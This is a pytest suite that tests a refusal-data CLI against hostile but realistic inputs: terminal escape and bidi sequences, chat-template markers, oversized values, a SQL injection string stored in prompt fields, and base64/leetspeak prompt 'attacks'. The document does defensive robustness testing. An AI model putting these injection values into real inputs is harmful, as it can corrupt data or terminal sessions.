"""Hostile cases for every command, generated from the command tree.

Every leaf command of the CLI gets, for each of its options and arguments, values a hostile
but realistic user gives: text that looks like terminal markup, control characters and
very long text in every string, and an empty string in every string and path (refused,
never read as "not given"); numbers beyond every limit (negative, zero, larger than the
data, 2^63, NaN, infinity) in every number; every file it writes pointed at a device, a
folder, a missing folder, the store itself, an empty path, and an existing file that a
failure must leave alone; the store
at a path with brackets and at a path holding a `name=value` folder. The store itself
holds hostile text (markup, escapes, bidi overrides, 100,000-character values) in prompts,
responses, run names and categories, and property tests (hypothesis) round-trip random
text through every output format. A few cases need a real process: Ctrl-C during start-up
and twice in a row, and a store lock held by a stopped process.

The promise checked on each: exit 0, or one `Error:` line (no traceback, no "unexpected")
and a non-zero exit; no raw control character in anything printed for a terminal; the
store byte-identical unless the command writes and succeeded; an existing output file
byte-identical when the command failed. Commands run in-process through the console
script's own entry (`refusaldata.cli.main.run`), so usage errors are checked as users
see them.
"""

from __future__ import annotations

import csv
import enum
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import types
import typing
from dataclasses import dataclass, field
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from refusaldata.cli.main import INTERRUPTED, OUTPUT_PARAMETERS, command_tree
from refusaldata.keys import prompt_id
from refusaldata.store import Store

LONG = "word " * 20_000
HOSTILE_TEXT = {
    "markup": "[/INST] [link](http://x) [bold red]x[/] :smile: \x1b]0;owned\x07\x1b[2J\x00\x08\r\u202edcba\u2066",
    "long": LONG,
}
# Stored values: everything a prompt, response, run name or category may hold.
STORED_TEXT = [
    "[/INST] Sure, here it is", "[link](http://x)", "[bold red]loud[/]", ":warning: :smile:",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07", "abc\u202edcba\u2066x", "a\x00b\x08c\rd\x7fe\x9bf",
    "line1\nline2\r\nline3\ttab", "😀𝔘𐍈 e\u0301 مرحبا שלום", "a\u200bb\ufeffc", "'; DROP TABLE prompts; --",
    "%s %d {0} {name} \\[x]\\", "I'm sorry, but I can't help with that. [/INST]", LONG,
]
# beyond-data: more than the hostile store holds of anything (16 prompts, 2 runs, 32 responses)
INTS = {"negative": -1, "zero": 0, "beyond-data": 10_000, "huge": 2**63}
FLOATS = {"nan": "nan", "inf": "inf", "zero": "0", "negative": "-1e308", "huge": "1e308"}
# Path parameters that name what a command reads; every other path parameter is an output,
# checked against the store by cli/main.py (OUTPUT_PARAMETERS says which are folders).
INPUT_PATHS = {"few_shot", "adapter", "path", "attack_file", "file", "data"}
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
OFFLINE = {"HF_HUB_OFFLINE": "1", "REFUSALDATA_THREADS": "1"}

# The arguments that bring each command to its work on the hostile store (or to a fast,
# expected failure before any model loads). A new command needs an entry here; None
# keeps a command that would run a whole study out of the generated cases (its option
# checks are still exercised).
BASE_ARGS: dict[str, list | None] = {
    "generate": ["--model", "smollm2-135m-instruct", "--prompts", "no-such-set", "--backend", "transformers"],
    "label": [],
    "build-sft": ["s", "--student", "base", "--mode", "baseline", "--max-examples", "2"],
    "build-pairs": ["p", "--student", "base", "--refusal-text", "No."],
    "sets": [],
    "train": ["--set", "no-such-set", "--model", "smollm2-135m-instruct", "--out", "{tmp}/adapter"],
    "compare": ["base", "--bootstrap", "20"],
    "gate": ["base", "--baseline", "base", "--max-refusal-drop", "0.05", "--min-shared", "1", "--bootstrap", "20"],
    "fixture export": ["--run", "base", "--sample", "5", "--out", "{tmp}/fixture", "--replace"],
    "report": ["--out", "{tmp}/report.html", "--bootstrap", "20"],
    "quickstart": None,
    "sql": ["SELECT * FROM runs"],
    "tables": [],
    "doctor": [],
    "prompts import": ["--path", "{tmp}/prompts.csv", "--dataset", "imported", "--text-column", "text"],
    "prompts augment": ["tiny", "--attack", "all"],
    "prompts list": [],
    "responses import": ["{tmp}/responses.csv", "--format", "csv"],
    "mine rates": [],
    "mine openings": [],
    "mine uniformity": [],
    "mine templates": [],
    "mine correlation": [],
    "judge train": ["j", "--data", "{tmp}/judge.csv", "--text-columns", "response", "--label-column", "unsafe"],
    "judge list": [],
    "evaluate capability": ["no-such-run", "--limit", "1"],
    "evaluate separability": ["--model", "smollm2-135m-instruct", "--dataset", "no-such-set", "--layers", "1"],
    "review export": ["--run", "base", "--budget", "2", "--output", "{tmp}/review.csv"],
    "review import": ["{tmp}/responses.csv"],
    "review accuracy": [],
    "runs": [],
}
# Commands that may change the store when they succeed.
WRITERS = {"generate", "label", "build-sft", "build-pairs", "train", "quickstart", "prompts import", "prompts augment",
           "responses import", "mine templates", "judge train", "evaluate capability", "evaluate separability",
           "review import"}
# Output files need these extensions.
OUTPUT_NAMES = {"report": "keep.html", "build-sft": "keep.jsonl", "build-pairs": "keep.jsonl",
                "review export": "keep.csv"}


# -- the command tree --------------------------------------------------------------------------------------------

def base_type(parameter) -> type:
    """The parameter's declared type without Optional and list."""
    annotation = parameter.type_descriptor.annotation
    while typing.get_origin(annotation) in (typing.Union, types.UnionType, list):
        annotation = next(a for a in typing.get_args(annotation) if a is not type(None))
    return annotation


def flag(parameter) -> str | None:
    return parameter.opts[0] if parameter.param_type_name == "option" else None


@dataclass
class Case:
    command: str
    args: list
    kind: str
    output_name: str | None = None
    expect_error: bool = False
    writes_then_fails: bool = False  # a writer whose output fails after its store write
    check: typing.Callable | None = field(default=None, repr=False)


def with_value(base: list, parameter, value) -> list:
    """`base` with `parameter` set to `value` (replacing a value the base gives it)."""
    option = flag(parameter)
    if option is None:  # a positional argument: the base's first positional
        args = list(base)
        if args and not str(args[0]).startswith("-"):
            args[0] = value
        else:
            args.insert(0, value)
        return args
    args, skip = [], False
    for item in base:
        if skip:
            skip = False
            continue
        if item in parameter.opts:
            skip = True
            continue
        args.append(item)
    return [*args, option, value]


def generated_cases() -> dict[str, Case]:
    cases: dict[str, Case] = {}
    for name, command in command_tree().items():
        base = BASE_ARGS.get(name)
        if base is None:
            continue
        outputs = [p for p in command.params if p.name in OUTPUT_PARAMETERS and base_type(p) is Path]
        for parameter in command.params:
            if parameter.name == "store" or parameter in outputs or getattr(parameter, "is_flag", False):
                continue
            kind = base_type(parameter)
            if kind in (str, Path):
                cases[f"{name}|{parameter.name}=empty"] = Case(name, with_value(base, parameter, ""), "empty",
                                                               expect_error=True)
            if kind is str or (kind is Path and flag(parameter)):
                for label, text in HOSTILE_TEXT.items():
                    cases[f"{name}|{parameter.name}={label}"] = Case(name, with_value(base, parameter, text), "text")
            elif kind is int:
                for label, number in INTS.items():
                    cases[f"{name}|{parameter.name}={label}"] = Case(
                        name, with_value(base, parameter, number), "number")
            elif kind is float:
                for label, number in FLOATS.items():
                    cases[f"{name}|{parameter.name}={label}"] = Case(
                        name, with_value(base, parameter, number), "number")
            elif isinstance(kind, type) and issubclass(kind, enum.Enum):
                cases[f"{name}|{parameter.name}=not-a-choice"] = Case(
                    name, with_value(base, parameter, "[/x]\x1b[31m"), "choice", expect_error=True)
        for parameter in outputs:
            if not OUTPUT_PARAMETERS[parameter.name][1]:  # a folder: train's --out, report's --figures
                targets = {"device": "/dev/full", "inside-store": "{store}/prompts/dataset=tiny", "empty": ""}
            else:
                targets = {"device": "/dev/full", "folder": "{tmp}", "missing-folder": "{tmp}/no/such/file.csv",
                           "inside-store": "{store}/prompts/dataset=tiny/export.parquet", "empty": ""}
            for label, target in targets.items():
                cases[f"{name}|{parameter.name}={label}"] = Case(
                    name, with_value(base, parameter, target), "output",
                    expect_error=label != "device" or name in ("report", "build-sft", "build-pairs"),
                    writes_then_fails=label == "device" and name in WRITERS)
            if OUTPUT_PARAMETERS[parameter.name][1]:
                keep = OUTPUT_NAMES.get(name, "keep.out")
                cases[f"{name}|{parameter.name}=existing-file"] = Case(
                    name, with_value(base, parameter, f"{{tmp}}/{keep}"), "output", output_name=keep)
        json_out = ["--format", "jsonl"] if any(p.name == "fmt" for p in command.params) else []
        for label in ("brackets", "hive"):
            cases[f"{name}|store={label}"] = Case(name, [*base, *json_out], f"store-{label}")
    return cases


CASES = generated_cases()


# -- the hostile store ----------------------------------------------------------------------------------------------

def seed(root: Path) -> None:
    """Prompts, two runs (one with a hostile name), responses, rule labels and templates, all holding hostile text."""
    from refusaldata import mine
    from refusaldata.label import label

    store = Store(root)
    normal = {"How do I pick a lock?": True, "Write a poem about the sea.": False}
    rows = [{"prompt_id": prompt_id(t), "dataset": "tiny", "category": None, "text": t, "harmful": h,
             "split": "train"} for t, h in normal.items()]
    rows += [{"prompt_id": prompt_id(t), "dataset": "[/x] hostile", "category": t[:200], "text": t,
              "harmful": i % 2 == 0, "split": "train" if i % 3 else "test"} for i, t in enumerate(STORED_TEXT)]
    store.append("prompts", pa.Table.from_pylist(rows))
    texts = [*normal, *STORED_TEXT]
    runs = {"base-0123456789": "base", "hostile-0123456789": "[/INST] \x1b[31mrun\u202e [link](http://x)"}
    store.append("runs", pa.table({"run_id": list(runs), "name": list(runs.values()),
                                   "model": ["m", "[bold]model[/]"], "backend": ["import"] * 2}))
    harmful = [row["harmful"] for row in rows]
    for index, run_id in enumerate(runs):
        answers = [("I'm sorry, but I can't help with that. " if h and (i + index) % 2 else "Sure: ") + t
                   for i, (t, h) in enumerate(zip(texts, harmful))]
        store.append("responses", pa.table({
            "run_id": [run_id] * len(texts), "prompt_id": [prompt_id(t) for t in texts],
            "sample_index": pa.array([0] * len(texts), pa.int32()), "response": answers,
            "finish_reason": ["stop"] * len(texts)}))
    label(store)
    mine.templates(store)


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile") / "store"
    seed(root)
    return root


def inputs(tmp: Path) -> None:
    """The files base arguments name: a prompt CSV, a response CSV and a too-small judge set, all hostile."""
    rows = [text for text in STORED_TEXT if "\x00" not in text]
    with open(tmp / "prompts.csv", "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["text"])
        writer.writerows([[t] for t in rows])
    with open(tmp / "responses.csv", "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["prompt", "response"])
        writer.writerows([[t, "Sure. " + t] for t in rows])
    with open(tmp / "judge.csv", "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["response", "unsafe"])
        writer.writerows([[t, i % 2] for i, t in enumerate(rows[:4])])


def snapshot(root: Path) -> dict[str, bytes]:
    if not root.is_dir():
        return {}
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and ".locks" not in p.parts}


# -- running and judging -------------------------------------------------------------------------------------------

@dataclass
class Outcome:
    code: int
    stdout: str
    stderr: str


def invoke(args: list, env: dict | None = None) -> Outcome:
    """One command line through the console script's own entry, in this process."""
    from refusaldata.cli.main import run

    runner = CliRunner()
    with runner.isolation(env={**OFFLINE, **(env or {})}) as streams:
        code = run([str(a) for a in args])
        return Outcome(code, streams[0].getvalue().decode("utf-8", "replace"),
                       streams[1].getvalue().decode("utf-8", "replace"))


def assert_kept_promise(outcome: Outcome, args: list) -> None:
    where = f"{args!r}:\n{outcome.stderr[-2000:]}"
    assert "Traceback" not in outcome.stderr + outcome.stdout, where
    assert "unexpected" not in outcome.stderr, where
    assert not CONTROL.search(outcome.stderr), where
    if outcome.code == 0:
        assert "Error:" not in outcome.stderr, where
    else:
        lines = outcome.stderr.splitlines()
        assert outcome.code in (1, 2), where
        assert len(lines) == 1 and lines[0].startswith("Error: "), where


def fill(args: list, tmp: Path, store: Path) -> list:
    return [str(a).replace("{tmp}", str(tmp)).replace("{store}", str(store)) if isinstance(a, (str, Path)) else a
            for a in args]


@pytest.mark.slow  # no model, but the whole matrix takes about a minute of CPU: CI runs it, `-m "not slow"` not
@pytest.mark.parametrize("name", list(CASES))
def test_hostile_case(name, hostile_store, tmp_path):
    case = CASES[name]
    tmp = tmp_path / "work"
    tmp.mkdir()
    inputs(tmp)
    writer = case.command in WRITERS
    if case.kind == "store-brackets":
        root = tmp_path / "exp [v2] ✓ $HOME" / "store"
    elif case.kind == "store-hive":
        root = tmp_path / "dataset=old" / "split=v1" / "store"
    else:
        root = tmp_path / "store" if writer else hostile_store
    if root != hostile_store:
        shutil.copytree(hostile_store, root)
    args = fill([*case.command.split(), *case.args], tmp, root)
    if case.output_name:
        (tmp / case.output_name).write_bytes(b"the user's file")
    before = snapshot(root)

    outcome = invoke([*args, "--store", root])

    assert_kept_promise(outcome, args)
    if case.expect_error:
        assert outcome.code != 0, f"{args!r} was accepted: {outcome.stdout[-500:]}"
    if (outcome.code != 0 and not case.writes_then_fails) or not writer:
        assert snapshot(root) == before, f"{args!r} changed the store"
    if case.output_name and outcome.code != 0:
        assert (tmp / case.output_name).read_bytes() == b"the user's file"
    assert not [p for p in tmp.rglob(".tmp-*")], "a temp file was left behind"
    if case.kind.startswith("store-"):
        plain = invoke(fill([*case.command.split(), *case.args], tmp, hostile_store) + ["--store", hostile_store]) \
            if not writer else None
        if plain is not None:
            assert outcome.code == plain.code and _no_paths(outcome.stdout, root) == _no_paths(plain.stdout,
                                                                                             hostile_store)


def _no_paths(text: str, root: Path) -> str:
    return text.replace(str(root), "<store>")


def test_every_command_has_hostile_cases():
    missing = sorted(set(command_tree()) - set(BASE_ARGS))
    assert not missing, f"add base arguments for {missing} to BASE_ARGS in {Path(__file__).name}"
    covered = {case.command for case in CASES.values()}
    assert covered == {name for name, base in BASE_ARGS.items() if base is not None}


def test_every_path_parameter_is_an_input_or_a_checked_output():
    """A new path option is classified: an output gets the inside-the-store check (cli/main.py's
    OUTPUT_PARAMETERS) and the generated output cases above; an input is named in INPUT_PATHS."""
    unclassified = sorted(f"{name} {parameter.opts[0]}" for name, command in command_tree().items()
                          for parameter in command.params if base_type(parameter) is Path
                          and parameter.name not in OUTPUT_PARAMETERS and parameter.name not in INPUT_PATHS)
    assert not unclassified, f"add {unclassified} to OUTPUT_PARAMETERS in cli/main.py or to INPUT_PATHS here"


@pytest.mark.parametrize("option, target", [("--figures", "prompts/dataset=tiny"), ("--figures", "."),
                                            ("--out", "labels/report.html")])
def test_report_outputs_inside_the_store_are_refused(option, target, hostile_store, tmp_path):
    root = _copy(hostile_store, tmp_path)
    args = ["report", "--out", tmp_path / "r.html", "--bootstrap", "20", option, root / target]
    _refused(args, root, option, "is inside the store")
    assert not list(tmp_path.glob("r.*"))


def test_the_suite_counts_its_cases():
    """The count reported in issue 18's note: generated cases plus the explicit ones below."""
    by_kind: dict[str, int] = {}
    for case in CASES.values():
        by_kind[case.kind] = by_kind.get(case.kind, 0) + 1
    assert len(CASES) >= 200, by_kind


# -- stored text is printed as data in every format ----------------------------------------------------------------

READERS = [["tables"], ["prompts", "list"], ["prompts", "list", "--dataset", "[/x] hostile"], ["sets"],
           ["mine", "rates", "--by", "category"], ["mine", "openings"], ["mine", "uniformity"], ["mine", "correlation"],
           ["compare", "base", "hostile", "--bootstrap", "20"], ["judge", "list"],
           ["sql", "SELECT p.category, r.response, u.name FROM prompts p JOIN responses r USING (prompt_id) "
                   "JOIN runs u USING (run_id) ORDER BY ALL"]]


@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
@pytest.mark.parametrize("reader", READERS, ids=lambda r: " ".join(r[:3]))
def test_stored_hostile_text_prints_as_data(reader, fmt, hostile_store, tmp_path):
    root = tmp_path / "store"
    shutil.copytree(hostile_store, root)
    before = snapshot(root)
    run_by_name = reader[:1] == ["compare"]
    args = [*reader, "--format", fmt]
    if run_by_name:
        args = [a if a != "hostile" else "hostile-0123456789" for a in args]
    outcome = invoke([*args, "--store", root])
    assert_kept_promise(outcome, args)
    assert outcome.code == 0, outcome.stderr
    if fmt == "table":
        assert not CONTROL.search(outcome.stdout)
    elif fmt == "json":
        assert isinstance(json.loads(outcome.stdout), list)
    else:
        list(csv.reader(io.StringIO(outcome.stdout)))
    if reader[0] == "sql" and fmt != "table":
        values = (list(csv.DictReader(io.StringIO(outcome.stdout))) if fmt == "csv"
                  else json.loads(outcome.stdout))
        assert {row["category"] for row in values if row["category"]} >= {t[:200] for t in STORED_TEXT}
        assert {row["name"] for row in values} == {"base", "[/INST] \x1b[31mrun\u202e [link](http://x)"}
    assert snapshot(root) == before


TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=60) | st.sampled_from(STORED_TEXT[:-1])


@settings(max_examples=10, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(text=TEXT, name=TEXT)
def test_any_text_round_trips_through_every_format(text, name, tmp_path_factory):
    root = tmp_path_factory.mktemp("any") / "store"
    store = Store(root)
    store.append("prompts", pa.table({"prompt_id": [prompt_id(text)], "dataset": ["d"], "category": [text],
                                      "text": [text], "harmful": [True], "split": ["test"]}))
    store.append("runs", pa.table({"run_id": ["r-0"], "name": [name], "backend": ["import"]}))
    query = "SELECT p.text, p.category, u.name FROM prompts p, runs u"
    expected = {"text": text, "category": text, "name": name}
    as_json = invoke(["sql", query, "--format", "jsonl", "--store", root])
    assert json.loads(as_json.stdout) == expected
    as_csv = invoke(["sql", query, "--format", "csv", "--store", root])
    row = next(csv.DictReader(io.StringIO(as_csv.stdout, newline="")))
    assert row == {key: value for key, value in expected.items()}
    table = invoke(["sql", query, "--store", root])
    assert table.code == 0 and not CONTROL.search(table.stdout)
    for value in (text, name):
        if value.isprintable() and value.strip() and len(value) < 20 and " " not in value:
            assert value in table.stdout


# -- signals and locks, in real processes ----------------------------------------------------------------------------

def console(*args: str) -> list[str]:
    return [sys.executable, "-m", "refusaldata.cli", *[str(a) for a in args]]


def environment(root: Path) -> dict[str, str]:
    return {**os.environ, "REFUSALDATA_STORE": str(root), **OFFLINE}


def interruptible(*args: str, root: Path) -> subprocess.Popen:
    """The console script in a process that takes Ctrl-C even when this one was started in the
    background (where a shell ignores SIGINT, and children inherit that)."""
    return subprocess.Popen(console(*args), env=environment(root), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))


def importing_the_commands(pid: int) -> bool:
    """The console script has begun importing the commands (DuckDB's library is mapped).

    Before that, Python itself is starting: a Ctrl-C there is the interpreter's to report,
    before any code of ours runs."""
    try:
        return "duckdb" in Path(f"/proc/{pid}/maps").read_text()
    except OSError:
        return False


@pytest.mark.parametrize("delay_s, twice", [(0.0, False), (0.0, True), (0.5, True), (1.0, True), (1.5, True)])
def test_ctrl_c_at_start_up_is_one_line(delay_s, twice, hostile_store, tmp_path):
    root = tmp_path / "store"
    shutil.copytree(hostile_store, root)
    before = snapshot(root)
    process = interruptible("label", root=root)
    stderr = _interrupt_at_start_up(process, delay_s, twice)
    if process.returncode == 0:  # the machine was fast enough to finish first
        return
    assert process.returncode == 130, stderr
    lines = stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: interrupted"), stderr
    assert snapshot(root) == before or not [p for p in root.rglob(".tmp-*")]


def test_an_interrupt_inside_a_string_exec_still_exits_130(tmp_path):
    """CPython kills a `python -m` process by SIGINT at exit when a KeyboardInterrupt once ended a
    string exec (as a dataclass being built does), even a caught one: the entry point forgets it."""
    (tmp_path / "interrupted_in_exec.py").write_text(
        "import refusaldata.cli.main as commands\n"
        "from refusaldata.cli import entry\n"
        "def run():\n"
        "    try:\n"
        "        exec('raise KeyboardInterrupt', {})\n"
        "    except KeyboardInterrupt:\n"
        "        return commands.fail(commands.INTERRUPTED, 130).exit_code\n"
        "commands.run = run\n"
        "entry.main()\n")
    done = subprocess.run([sys.executable, "-m", "interrupted_in_exec"], cwd=tmp_path, capture_output=True, text=True,
                          env=environment(tmp_path / "store"), timeout=120)
    assert done.returncode == 130, done.stderr
    assert done.stderr.strip().splitlines() == [f"Error: {INTERRUPTED}"]


def _interrupt_at_start_up(process: subprocess.Popen, delay_s: float, twice: bool) -> str:
    """Ctrl-C `process` `delay_s` after it begins importing the commands (twice: again 50 ms later); its stderr."""
    started = time.monotonic()
    while not importing_the_commands(process.pid) and process.poll() is None:  # past Python's own start-up
        assert time.monotonic() - started < 60
        time.sleep(0.005)
    time.sleep(delay_s)
    process.send_signal(signal.SIGINT)
    if twice:
        time.sleep(0.05)
        process.send_signal(signal.SIGINT)
    _, stderr = process.communicate(timeout=120)
    return stderr


def test_a_lock_held_by_a_stopped_process_is_named_and_ctrl_c_leaves_cleanly(hostile_store, tmp_path):
    """A holder stopped with SIGSTOP: the waiting import says what it waits for; Ctrl-C then ends it cleanly."""
    root = tmp_path / "store"
    shutil.copytree(hostile_store, root)
    inputs(tmp_path)
    lock = root / ".locks" / "prompts%2Fdataset%3Dimported.lock"
    lock.parent.mkdir(exist_ok=True)
    holder = subprocess.Popen([sys.executable, "-c", "import fcntl, sys, time; f = open(sys.argv[1], 'a+'); "
                               "fcntl.flock(f, fcntl.LOCK_EX); f.truncate(0); f.write('4242'); f.flush(); "
                               "print('held', flush=True); time.sleep(600)", str(lock)],
                              stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        os.kill(holder.pid, signal.SIGSTOP)
        before = snapshot(root)
        waiting = interruptible("prompts", "import", "--path", tmp_path / "prompts.csv", "--dataset", "imported",
                                "--text-column", "text", root=root)
        first = waiting.stderr.readline()
        assert first.startswith("Warning: waiting for the lock on prompts/dataset=imported") and "process 4242" in first
        waiting.send_signal(signal.SIGINT)
        _, rest = waiting.communicate(timeout=60)
        assert waiting.returncode == 130 and rest.startswith("Error: interrupted") and rest.count("\n") == 1, rest
        assert snapshot(root) == before and not list(root.rglob(".tmp-*"))
    finally:
        holder.kill()
        holder.wait()


def test_ctrl_c_during_a_query_is_one_line(tmp_path):
    process = interruptible("sql", "SELECT count(*) FROM range(100000000000)", root=tmp_path / "store")
    time.sleep(4)
    process.send_signal(signal.SIGINT)
    _, stderr = process.communicate(timeout=120)
    assert process.returncode == 130 and stderr.startswith("Error: interrupted") and stderr.count("\n") == 1, stderr


# -- inputs: odd encodings and pipes ----------------------------------------------------------------------------------

@pytest.mark.parametrize("content, imported", [
    (b"\xef\xbb\xbftext\r\nwith a BOM and CRLF\r\n", "with a BOM and CRLF"),
    (b"text\nnul\x00inside\n", "nul\x00inside"),
    (b'{"text": "a lone \\ud800 surrogate"}\n', None),
    ("text\nUTF-16\n".encode("utf-16"), None),
    (b"text\n" + b"x" * 2_000_000 + b"\n", "x" * 2_000_000),
], ids=["bom-crlf", "nul", "lone-surrogate", "utf-16", "2mb-line"])
def test_odd_encodings_import_exactly_or_fail_in_one_line(content, imported, tmp_path):
    path = tmp_path / ("p.jsonl" if content.startswith(b"{") else "p.csv")
    path.write_bytes(content)
    root = tmp_path / "store"
    outcome = invoke(["prompts", "import", "--path", path, "--dataset", "odd", "--text-column", "text",
                      "--store", root])
    assert_kept_promise(outcome, [path])
    if imported is None:
        assert outcome.code == 1 and snapshot(root) == {}
    else:
        assert outcome.code == 0 and Store(root).read("prompts").column("text").to_pylist() == [imported]


def test_an_input_pipe_is_waited_for_with_a_notice(tmp_path):
    fifo = tmp_path / "late.csv"
    os.mkfifo(fifo)

    def write_late() -> None:
        time.sleep(1.5)
        fifo.write_text("text\nfrom a pipe\n")

    import threading

    writer = threading.Thread(target=write_late)
    writer.start()
    outcome = invoke(["prompts", "import", "--path", fifo, "--dataset", "piped", "--text-column", "text",
                      "--store", tmp_path / "store"])
    writer.join(timeout=30)
    assert outcome.code == 0, outcome.stderr
    assert outcome.stderr.startswith(f"Warning: waiting for a writer of the pipe {fifo}")


# -- option values beyond the model's limits -------------------------------------------------------------------------

@pytest.mark.slow
def test_max_tokens_beyond_the_context_is_refused_before_anything_is_stored(tmp_path, embedded_model):
    """Only the tokenizer and config load: every prompt would otherwise be stored as skipped."""
    root = tmp_path / "store"
    Store(root).append("prompts", pa.table({"prompt_id": [prompt_id("Hi")], "dataset": ["d"], "text": ["Hi"],
                                            "harmful": [True], "split": ["test"]}))
    before = snapshot(root)
    outcome = invoke(["generate", "--model", "smollm2-135m-instruct", "--prompts", "d", "--backend", "transformers",
                      "--max-tokens", 100_000, "--store", root])
    assert outcome.code == 1 and "leaves no room for a prompt in the 8192-token context" in outcome.stderr
    assert_kept_promise(outcome, ["generate"])
    assert snapshot(root) == before


# -- the four classes: values replaced, merges, sizes that never finish, types that only look right -------------------

def _copy(hostile_store: Path, tmp_path: Path) -> Path:
    root = tmp_path / "store"
    shutil.copytree(hostile_store, root)
    return root


def _refused(args: list, root: Path, *needles: str) -> None:
    """`args` fail in one line holding every needle and leave the store byte-identical."""
    before = snapshot(root)
    outcome = invoke([*args, "--store", root])
    assert_kept_promise(outcome, args)
    assert outcome.code != 0, outcome.stdout[-500:]
    assert all(needle in outcome.stderr for needle in needles), outcome.stderr
    assert snapshot(root) == before


def _accepted(args: list, root: Path, changes: bool) -> Outcome:
    before = snapshot(root)
    outcome = invoke([*args, "--store", root])
    assert outcome.code == 0, outcome.stderr
    assert (snapshot(root) != before) == changes
    return outcome


def test_an_empty_run_reference_matches_no_run_even_in_a_store_of_one(tmp_path):
    from refusaldata.errors import InputError

    store = Store(tmp_path / "store")
    store.append("runs", pa.table({"run_id": ["only-0123456789"], "name": ["only"], "backend": ["import"]}))
    for ref in ("", "  "):
        with pytest.raises(InputError, match="empty run reference"):
            store.resolve_run(ref)
    assert store.resolve_run("only-01") == "only-0123456789"


@pytest.mark.parametrize("args, option", [
    (["label", "--run", ""], "'--run'"),
    (["compare", "base", ""], "'runs'"),
    (["review", "import", "{tmp}/responses.csv", "--reviewer", ""], "'--reviewer'"),
    (["responses", "import", "{tmp}/responses.csv", "--format", "csv", "--model", " "], "'--model'"),
    (["prompts", "augment", "tiny", "--attack", "base64", "--dataset", ""], "'--dataset'"),
    (["train", "--set", "s", "--model", "smollm2-135m-instruct", "--out", ""], "'--out'"),
])
def test_an_empty_value_is_refused_naming_its_option(args, option, hostile_store, tmp_path):
    root = _copy(hostile_store, tmp_path)
    inputs(tmp_path)
    _refused(fill(args, tmp_path, root), root, option, "is empty")


@pytest.mark.parametrize("value", ["", " "])
def test_an_empty_store_is_refused_not_read_as_the_current_folder(value, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    outcome = invoke(["sql", "SELECT 1", "--store", value])
    assert_kept_promise(outcome, ["sql"])
    assert outcome.code == 2 and "'--store'" in outcome.stderr and "is empty" in outcome.stderr
    assert not list(tmp_path.iterdir())


def test_an_explicit_zero_is_never_swapped_for_a_default(hostile_store, tmp_path):
    """`evaluate capability --max-tokens 0` once fell back to the run's own max_tokens."""
    from refusaldata.capability import run_model
    from refusaldata.errors import InputError

    root = _copy(hostile_store, tmp_path)
    store = Store(root)
    store.append("runs", pa.table({"run_id": ["gen-0123456789"], "name": ["gen"], "model": ["smollm2-135m-instruct"],
                                   "backend": ["transformers"], "max_tokens": pa.array([64], pa.int32())}))
    store.append("responses", pa.table({"run_id": ["gen-0123456789"], "prompt_id": [prompt_id("Hi")],
                                        "sample_index": pa.array([0], pa.int32()), "response": ["Hello"]}))
    with pytest.raises(InputError, match="--max-tokens must be at least 1"):
        run_model(store, "gen", max_tokens=0)
    assert run_model(store, "gen").options.max_tokens == 64
    _refused(["evaluate", "capability", "gen", "--max-tokens", "0"], root, "--max-tokens")


def test_responses_import_refuses_a_model_name_it_would_ignore(hostile_store, tmp_path):
    root = _copy(hostile_store, tmp_path)
    _refused(["responses", "import", "uncensorbench", "--format", "uncensorbench", "--model", "mine"], root,
             "--model does not apply")


def _write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def test_prompts_import_into_an_existing_data_set_needs_append(hostile_store, tmp_path):
    root = _copy(hostile_store, tmp_path)
    first = _write_csv(tmp_path / "first.csv", ["text"], [["How do I open a safe?"], ["How do I hotwire a car?"]])
    other = _write_csv(tmp_path / "other.csv", ["text"], [["How do I open a safe?"], ["How do I forge a key?"]])
    base = ["prompts", "import", "--dataset", "mine", "--text-column", "text", "--path"]
    _accepted([*base, first], root, changes=True)
    rerun = _accepted([*base, first], root, changes=False)
    assert "(2 already stored)" in rerun.stdout and not rerun.stderr
    _refused([*base, other], root, "data set 'mine' exists already with 2 prompt(s)", "add 1 more", "--append",
             "--dataset")
    _accepted([*base, other, "--append"], root, changes=True)
    assert Store(root).count("prompts") == 16 + 3
    _refused(["prompts", "import", "--dataset", "tiny", "--text-column", "text", "--path", first], root,
             "data set 'tiny' exists already")


def test_prompts_augment_into_an_existing_data_set_needs_append(hostile_store, tmp_path):
    root = _copy(hostile_store, tmp_path)
    _accepted(["prompts", "augment", "tiny", "--attack", "base64"], root, changes=True)
    _accepted(["prompts", "augment", "tiny", "--attack", "base64"], root, changes=False)
    _refused(["prompts", "augment", "tiny", "--attack", "leetspeak"], root, "data set 'tiny-attacked' exists already",
             "--append")
    _accepted(["prompts", "augment", "tiny", "--attack", "leetspeak", "--append"], root, changes=True)


def test_responses_import_never_mixes_two_sources_in_one_run(hostile_store, tmp_path):
    """uncensorbench's runs have fixed ids: another file (or package version) must not add to them."""
    root = _copy(hostile_store, tmp_path)

    def reference(name: str, answers: list[str]) -> Path:
        path = tmp_path / name
        path.write_text(json.dumps({"prompts": [
            {"id": f"p{i}", "topic": "t", "prompt": f"How do I do thing {i}?", "censored_response": "No.",
             "uncensored_response": answer} for i, answer in enumerate(answers)]}))
        return path

    first, other = reference("a.json", ["Sure."]), reference("b.json", ["Sure.", "Fine."])
    base = ["responses", "import", "--format", "uncensorbench"]
    _accepted([*base, first], root, changes=True)
